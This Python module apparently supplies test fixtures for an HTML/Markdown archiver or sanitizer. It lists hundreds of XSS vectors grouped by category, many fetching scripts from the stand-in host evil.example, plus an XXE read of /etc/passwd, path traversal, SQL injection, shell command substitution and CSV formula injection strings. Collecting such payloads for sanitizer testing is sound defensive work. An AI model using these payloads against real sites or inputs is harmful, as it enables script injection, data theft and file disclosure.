"""What an attacker writes into an archive: by the categories of the OWASP and HTML5 lists.

Each payload says `alert(1)` where it would run, and asks `evil.example` where it would fetch.
"""

from __future__ import annotations

HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror="&#x61;&#108;ert(1)">
<IMG SRC=x OnErRoR=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)>
<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=alert(1)>x</xss>
<marquee onstart=alert(1)>x</marquee>
<p onpointerenter=alert(1)>x</p>
<xss contenteditable autofocus onfocus=alert(1)>x
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<object data=x onerror=alert(1)></object>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<xss style="animation:x 1s" onanimationstart=alert(1)>x</xss>
"""
SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<script >alert(1)</script >
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
</script><script>alert(1)</script>
</ScRiPt ><img src=x onerror=alert(1)>
<!--<script>--></script><script>alert(1)</script>
<script type=module>import "//evil.example/x.js"</script>
<script src=data:text/javascript,alert(1)></script>
<script type="importmap">{"imports":{"x":"//evil.example/x.js"}}</script>
<script type="speculationrules">{"prefetch":[{"urls":["//evil.example/"]}]}</script>
"}</script><script>alert(1)</script>
\"}];alert(1);//
'-alert(1)-'
${alert(1)}
{{constructor.constructor('alert(1)')()}}
{% print(7*7) %}{{ 7*7 }}{# x #}
"""
ADDRESSES = r"""
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href=javascript&#58alert(1)>x</a>
<a href="&#106avascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example/" ping=//evil.example target=_top>x</a>
<a href="\\evil.example\x">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<area href="javascript:alert(1)">
<form action="javascript:alert(1)"><button autofocus>x</button></form>
<button formaction="javascript:alert(1)">x</button>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<java	script:alert(1)>)
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](//evil.example)
[x](/\\evil.example)
[x](https://a.example/" onmouseover="alert(1))
[x](https://a.example/ "t\" onmouseover=\"alert(1)")
[x]: javascript:alert(1) [x]
<javascript:alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](//evil.example/x.png)
![x](https://evil.example/x.png)
![x" onerror="alert(1)](x.png)
![x](x.png "t\" onerror=\"alert(1)")
javascript:alert(1)
javascript://a.example/%0Aalert(1)
https://a.example/"onmouseover="alert(1)
data:text/html,<script>alert(1)</script>
<img src="x.png" srcset="//evil.example/x 1x">
<picture><source srcset=//evil.example/x><img src=x.png></picture>
<image src=//evil.example/x.png>
<table background=//evil.example/x.png><tr><td background=//evil.example/x.png>x
"""
FOREIGN = r"""
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//evil.example/x.js /></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=9 y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>
<svg><set attributeName=onload to=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><image href=//evil.example/x.png></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
"""
ELEMENTS = r"""
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src=//evil.example/></iframe>
<iframe src="https://a.example/&quot; onload=&quot;alert(1)"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src=//evil.example/x.swf>
<applet code=x codebase=//evil.example/></applet>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=//evil.example/">
<meta http-equiv="Set-Cookie" content="x=1">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=preload as=script href="//evil.example/x.js">
<link rel=dns-prefetch href="//evil.example">
<form action=//evil.example/><input name=x value=y><button>x</button></form>
<isindex type=image src=x onerror=alert(1)>
<portal src=//evil.example/></portal>
<fencedframe src=//evil.example/></fencedframe>
<keygen autofocus onfocus=alert(1)>
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example/x)}</style>
<p style="background:url(//evil.example/x)">x</p>
<p style="position:fixed;inset:0;background:red">x</p>
<p style="width:expression(alert(1));behavior:url(//evil.example/x.htc)">x</p>
<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>
"""
PARSING = r'''
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)" x="
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
` onmouseover=alert(1)
--><img src=x onerror=alert(1)>
--!><img src=x onerror=alert(1)>
]]><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<!--><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?php echo '<script>alert(1)</script>' ?>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;
&lt;script&gt;alert(1)&lt;/script&gt;
&ltscript&gtalert(1)&lt/script&gt
&#60;script&#62;alert(1)&#60;/script&#62;
&#60img src=x onerror=alert(1)&#62
&#14;&#x7f;&#x202e;gpj.exe&#8238;&rlm;&#x85;&#0;&#xfeff;
<b title="&#x202e;&#14;x">x</b>
&amp;lt;img src=x onerror=alert(1)&amp;gt;
</title><script>alert(1)</script>
</h1></article></main><script>alert(1)</script>
</textarea><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>
<style><img src="</style><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<select><style><img src=x onerror=alert(1)></style></select>
<table><a href="javascript:alert(1)">x</a></table>
<b id=alert><a name=alert><form id=document><img name=cookie></form>
<p id="site--contenu" class="menu article-header">x</p>
<img """><script>alert(1)</script>">
`<script>alert(1)</script>`
    <script>alert(1)</script>
texte {: onclick=alert(1) }
# x {: onclick=alert(1) id="x\" onclick=\"alert(1)" }
[x](https://a.example){: onmouseover=alert(1) style=color:red }
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
¼script¾alert(1)¼/script¾
<script>alert(1)</script>
＜script＞alert(1)＜/script＞
'''
NAUGHTY = (
    "\u202egpj.exe\u202c",
    "\u2066abc\u2069 \u061c \u200e\u200f",
    "z\u200be\u200cr\u200do\ufeff l\u2060argeur",
    "<\u200bscript>alert(1)</script>",
    "<scr\u202eipt>alert(1)</script>",
    "java\u200bscript:alert(1)",
    "مرحبا بالعالم <b>x</b>",
    "שלום <img src=x onerror=alert(1)>",
    "Z̸̢̛͎̲̱a̵̡̻l̷̟g̶o̷ " + "e\u0301" * 50,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "\U0001f3f3\ufe0f\u200d",
    "\ufdd0\uffff\ufffe\U0010ffff",
    "\u2028alert(1)\u2029alert(1)",
    "\x85\x0b\x0c",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "nul.html",
    "aux",
    "index",
    "404",
    ".htaccess",
    "_headers",
    "%2e%2e%2f",
    "%00",
    "true",
    "null",
    "NaN",
    "0",
    "-1e309",
    "'; DROP TABLE article; --",
    "$(touch /tmp/x) `touch /tmp/x`",
    "=cmd|'/C calc'!A0",
    "\u00a0",
    "—",
    "?",
    "#",
)
_LINES = (HANDLERS, SCRIPTS, ADDRESSES, FOREIGN, ELEMENTS, PARSING)


def payloads() -> list[str]:
    """Return every payload once, in order."""
    lines = [line for block in _LINES for line in block.strip("\n").split("\n")]
    return list(dict.fromkeys([*lines, *NAUGHTY]))
